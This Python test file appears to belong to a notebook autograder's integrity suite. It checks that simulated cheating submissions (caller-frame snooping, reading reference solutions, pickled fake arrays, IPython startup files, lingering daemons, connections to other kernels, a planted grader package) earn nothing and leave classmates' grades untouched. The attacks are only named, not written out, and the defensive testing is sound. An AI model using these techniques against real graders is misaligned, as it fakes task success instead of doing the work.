    """The attacked functions earn 0, leaky ones at most the honest score, the others exactly it."""
    attacker = ATTACKERS[student]
    submission = result(run, student)
    assert submission.status in status, (student, submission.status, submission.detail)
    theirs, honest = scores(submission), honest_scores(run)
    for name in attacker.attacked:
        assert theirs[name] == 0.0, (f"{student}'s attack on {name} earned {theirs[name]} points: "
                                     f"{[e.messages for e in submission.exercises if e.name == name]}")
    for name in attacker.leaky:
        assert (theirs[name] or 0.0) <= (honest[name] or 0.0), (student, name, theirs[name], honest[name])
    others = {n: s for n, s in theirs.items() if n not in attacker.attacked + attacker.leaky}
    assert others == {n: honest[n] for n in others}, f"{student}'s other exercises: {others} vs honest {honest}"


def assert_classmates_unchanged(run: Run) -> None:
    for student in HONEST:
        assert result(run, student).exercises == result(run, student, run.alone).exercises, \
            f"{student}'s grades moved in the attacked class"


def autograded(run: Run, student: str) -> Path:
    return run.course.path("autograded", student, ASSIGNMENT.name, ASSIGNMENT.notebook)


def report(run: Run, student: str) -> dict:
    """What the attack's cell printed about itself (its ATTACK-REPORT line)."""
    path = autograded(run, student)
    assert path.is_file(), f"no graded notebook for {student}. " + where(run)
    text = "".join(o.get("text", "") for c in nbformat.read(path, as_version=4).cells if c.cell_type == "code"
                   for o in c.get("outputs", []) if o.get("output_type") == "stream")
    lines = [line for line in text.splitlines() if line.startswith("ATTACK-REPORT ")]
    assert lines, f"{student}'s attack printed no report: its cell did not run to the end"
    return json.loads(lines[-1].removeprefix("ATTACK-REPORT "))


def student_facing(run: Run) -> list:
    """Every graded notebook (and file next to it), feedback page and class report."""
    course = run.course
    paths = [p for kind in ("autograded", "feedback") for p in course.path(kind).rglob("*") if p.is_file()]
    return paths + [p for p in (course.root / "course_grade").glob("*") if p.suffix in (".csv", ".html")]


def containing(paths, text: str) -> list:
    return [str(p) for p in paths if text.encode() in p.read_bytes()]


def distinctive_reference_lines(run: Run) -> list:
    """Lines of the reference source that no notebook handed in contains (and that no file format escapes)."""
    handed_in = b"".join(p.read_bytes() for p in run.course.path("submitted").rglob("*.ipynb"))
    handed_in += ASSIGNMENT.source.read_bytes()
    lines = [line.strip().strip('"').strip() for line in
             (REPO / "grader" / "reference" / f"{ASSIGNMENT.topic}.py").read_text().splitlines()]
    return [line for line in lines if len(line) >= 16 and not set(line) & set("\"'<>&\\")
            and line.encode() not in handed_in]


# ----------------------------------------------------------------------------------------------
def test_the_class_is_graded_to_the_end(run):
    assert run.returncode == 0, where(run)
    assert run.alone_returncode == 0, run.alone_output[-3000:]
    for student in [*ATTACKERS, *HONEST]:
        expected = ("graded", "kernel died") if student == "a09-kills" else ("graded",)
        assert result(run, student).status in expected, (student, result(run, student).detail)


def test_classmates_grades_are_those_they_get_alone(run):
    assert_classmates_unchanged(run)


def test_graded_alone_the_classmates_get_what_their_work_is_worth(run):
    ada, ben = result(run, "ada", run.alone), result(run, "ben", run.alone)
    auto = [e for e in ada.exercises if e.score is not None]
    assert auto and all(e.score == e.max_score for e in auto), scores(ada)
    lost = {e.name: e.score for e in ben.exercises if e.score is not None and e.score < e.max_score}
    assert list(lost) == [MISTAKEN], scores(ben)
    mistake = catalogue(ASSIGNMENT.topic)[MISTAKEN][0]
    assert (mistake.title, mistake.key) in next(e for e in ben.exercises if e.name == MISTAKEN).named_mistakes


def test_1_the_callers_frames_hold_no_expected_values(run):
    assert_costs_only_its_author(run, "a01-frames")


def test_2_the_reference_can_be_neither_imported_nor_read_with_the_profiler_off(run):
    assert_costs_only_its_author(run, "a02-reference")


def test_3_solutions_and_classmates_notebooks_are_out_of_reach(run):
    found = report(run, "a03-reads")["found"]
    assert found == [], f"the attack read these notebooks: {found}"
    theirs = run.course.path("autograded", "a03-reads"), run.course.path("feedback", "a03-reads")
    assert [p for d in theirs for p in d.rglob("*") if p.is_file()], "nothing graded for a03-reads"
    not_ada = [p for p in student_facing(run) if not p.is_relative_to(run.course.path("autograded", "ada"))]
    assert containing(not_ada, run.ada_marker) == []
    assert containing(student_facing(run), SOLUTION_ONLY) == []
    assert_costs_only_its_author(run, "a03-reads")


def test_4_lying_arrays_earn_nothing(run):
    unpickled = Path(f"/tmp/integrity-unpickled-{run.canary}")
    ran = unpickled.exists()
    unpickled.unlink(missing_ok=True)
    assert not ran, "the grading side unpickled a submission's result, and ran its code"
    assert_costs_only_its_author(run, "a04-lies")


def test_5_mutating_inputs_and_callers_arrays_earns_nothing(run):
    assert_costs_only_its_author(run, "a05-mutates")


def test_6_writes_outside_the_sandbox_change_nothing(run):
    report(run, "a06-writes")
    assert run.submitted_after == run.submitted_before, "handed-in files changed during grading"
    pages = sorted(str(p.relative_to(run.course.path("feedback"))) for p in run.course.path("feedback").rglob("*")
                   if p.is_file())
    assert pages == sorted(f"{s}/{ASSIGNMENT.name}/{ASSIGNMENT.topic}.html" for s in [*ATTACKERS, *HONEST]), pages
    everything = [p for p in run.course.root.rglob("*") if p.is_file()]
    assert containing(everything, FORGED_BY_CLASSMATE) == []
    assert run.watched_after == run.watched_before, \
        "an installed source file was written during the run (or edited by hand meanwhile)"
    startup = [p for p in (run.home / ".ipython").rglob("startup/*.py")] if (run.home / ".ipython").exists() else []
    stray = Path.home() / ".ipython" / "profile_default" / "startup" / STARTUP_FILE
    escaped = stray.exists()
    stray.unlink(missing_ok=True)
    assert startup == [] and not escaped, f"an IPython start-up file was left for later kernels: {startup or stray}"
    for student in [*ATTACKERS, *HONEST]:
        over = [(e.name, e.score) for e in result(run, student).exercises if (e.score or 0) > e.max_score]
        assert over == [], f"{student} has forged scores in the gradebook: {over}"
    assert_classmates_unchanged(run)
    assert_costs_only_its_author(run, "a06-writes")


def test_7_a_daemon_dies_with_its_kernel(run):
    started = report(run, "a07-daemon")
    assert started.get("pid") or started.get("error"), started
    changed = sorted(k for k in run.just_after.keys() | run.later.keys() if run.just_after.get(k) != run.later.get(k))
    assert changed == [], f"files of the class changed after `course grade` returned: {changed}"
    everything = [p for p in run.course.root.rglob("*") if p.is_file()]
    assert containing(everything, FORGED_BY_DAEMON) == []
    for student in [*ATTACKERS, *HONEST]:
        over = [(e.name, e.score) for e in result(run, student).exercises if (e.score or 0) > e.max_score]
        assert over == [], f"{student} has forged scores in the gradebook: {over}"
    assert_costs_only_its_author(run, "a07-daemon")


def test_8_other_kernels_are_out_of_reach(run):
    found = report(run, "a99-connects")
    assert found["connected"] == [], f"the attack connected to other kernels: {found['connected']}"
    assert found["foreign_connection_files"] == [], found
    assert found["foreign_sockets"] == [], found
    assert_classmates_unchanged(run)
    assert_costs_only_its_author(run, "a99-connects")


def test_9_killing_processes_cannot_stop_the_class(run):
    assert run.returncode == 0, where(run)
    for student in [*ATTACKERS, *HONEST]:
        result(run, student)
    assert_classmates_unchanged(run)
    assert_costs_only_its_author(run, "a09-kills", status=("graded", "kernel died"))


def test_10_the_grading_environment_reaches_no_student(run):
    report(run, "a10-environment")          # its cell ran to the end
    outputs = student_facing(run)
    assert outputs, "nothing graded. " + where(run)
    assert containing(outputs, run.canary) == [], "the grading process's environment reached a student"
    reference = distinctive_reference_lines(run)
    assert len(reference) >= 2, reference
    leaked = {line: containing(outputs, line) for line in reference}
    assert not any(leaked.values()), {line: paths for line, paths in leaked.items() if paths}
    assert_costs_only_its_author(run, "a10-environment")


def test_11_a_grader_package_handed_in_and_fake_scores_earn_nothing(run):
    assert run.course.path("submitted", "a11-package", ASSIGNMENT.name, "grader", "__init__.py").is_file()
    assert_costs_only_its_author(run, "a11-package")
    submission, honest = result(run, "a11-package"), result(run, "ada", run.alone)
    assert submission.total == honest.total - next(e.max_score for e in honest.exercises if e.name == "nesterov_step")
